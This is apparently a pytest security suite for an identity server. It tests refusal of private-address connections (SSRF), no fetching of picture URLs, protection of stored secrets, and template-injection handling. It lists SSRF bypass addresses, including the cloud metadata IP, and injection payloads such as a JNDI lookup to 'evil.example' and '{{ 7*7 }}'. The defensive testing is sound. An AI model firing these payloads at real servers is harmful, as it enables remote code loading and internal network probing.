"""The case book, letter K: what the server fetches, keeps and says of itself."""

import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager

import pytest

from tests.support.cast import PASSWORD
from tests.support.independent import claims_of
from tests.support.management import refusal_of, result_of

PRIVATE = [
    *("127.0.0.1", "127.1", "2130706433", "0x7f000001", "0177.0.0.1", "localhost", "localhost."),
    *(
        "[::1]",
        "[::ffff:127.0.0.1]",
        "[::ffff:a9fe:a9fe]",
        "169.254.169.254",
        "10.0.0.1",
        "192.168.1.1",
        "[fd00::1]",
    ),
]
TEMPLATES = [
    "%s %(name)s",
    "{0.__class__}",
    "{{ 7*7 }}",
    "{% debug %}",
    "${jndi:ldap://evil.example/x}",
    "<%= 7*7 %>",
]


@contextmanager
def listener() -> Iterator[tuple[int, list[str]]]:
    """Listen on loopback, and yield the port and who connected."""
    seen: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def accept() -> None:
            while True:
                try:
                    connection, peer = server.accept()
                except OSError:
                    return
                seen.append(str(peer))
                connection.close()

        thread = threading.Thread(target=accept, daemon=True)
        thread.start()
        yield server.getsockname()[1], seen
        server.shutdown(socket.SHUT_RDWR)
    thread.join(5)


class TestConnectors:
    @pytest.mark.parametrize("host", PRIVATE)
    def test_case_K02_a_private_address_is_not_connected_to(self, admin, host):
        with listener() as (port, seen):
            config = {
                "host": host.strip("[]"),
                "port": port,
                "tls": "implicit",
                "from_email": "a@example.com",
            }
            made = admin.post("/connectors", connector_id="smtp", type="Email", config=config)
            if made.status_code == 200:
                path = f"/connectors/{result_of(made)['id']}/test"
                assert admin.post(path, to="ada@example.com").status_code == 400
            else:
                refusal_of(made, 400)

        assert seen == []

    @pytest.mark.parametrize("host", PRIVATE)
    def test_case_K02_nor_is_a_provider_there_asked(self, acme, admin, host):
        with listener() as (port, seen):
            config = {"client_id": "x", "client_secret": "y", "issuer": f"https://{host}:{port}"}
            made = admin.post("/connectors", connector_id="oidc", type="Social", config=config, enabled=True)
            if made.status_code == 200:
                acme.browser().get("/social/oidc", headers={"Sec-Fetch-Site": "same-origin"})
            else:
                refusal_of(made, 400)

        assert seen == []

    def test_case_K04_a_secret_does_not_follow_to_another_host(self, admin):
        config = {
            "host": "mail.example.com",
            "port": 465,
            "tls": "implicit",
            "username": "mailer",
            "password": "hunter2 hunter2",
            "from_email": "no-reply@example.com",
        }
        made = admin.created("/connectors", connector_id="smtp", type="Email", config=config)
        path = f"/connectors/{made['id']}"

        moved = admin.patch(path, config={**config, "host": "mail.evil.example", "password": "***"})

        assert "password" in refusal_of(moved, 400)
        assert result_of(admin.get(path))["config"]["host"] == "mail.example.com"


def test_case_K03_pictures_are_shown_and_never_fetched(acme, admin):
    with listener() as (port, seen):
        picture = f"https://127.0.0.1:{port}/a.png"
        user, browser, client = acme.user(), acme.browser(), acme.application()
        result_of(admin.patch(f"/users/{user.pk}", avatar=picture))
        result_of(admin.patch("/sign-in-experience", branding={"logo_url": picture, "favicon": picture}))
        acme.get("/sign-in")
        tokens = client.tokens_for(user, browser)
        browser.get("/account/profile")

        assert client.userinfo(tokens["access_token"]).json()["picture"] == picture
        assert seen == []


@pytest.mark.parametrize("text", TEMPLATES)
def test_case_K13_what_looks_like_a_template_is_a_text(acme, admin, text):
    user = acme.user(name=text)
    client, browser = acme.application(name=text, is_third_party=True), acme.browser()
    organization = admin.created("/organizations", name=text, description=text, metadata={"text": text})

    shown = browser.authorize(client)
    page = browser.get(shown.headers["Location"])
    signed_in = browser.post("/api/interaction/sign-in", json={"identifier": text, "password": PASSWORD})
    browser.sign_in(user)

    assert page.status_code == 200
    assert "49" not in page.text.replace("249", "").split("<h1", 1)[-1].split("</h1>", 1)[0]
    assert signed_in.status_code == 401
    assert browser.get("/account/profile").status_code == 200
    assert result_of(admin.get(f"/organizations/{organization['id']}"))["metadata"] == {"text": text}
    assert result_of(admin.get(f"/users/{user.pk}"))["name"] == text
    tokens = acme.application().tokens_for(user, browser)
    assert claims_of(tokens["id_token"])["name"] == text
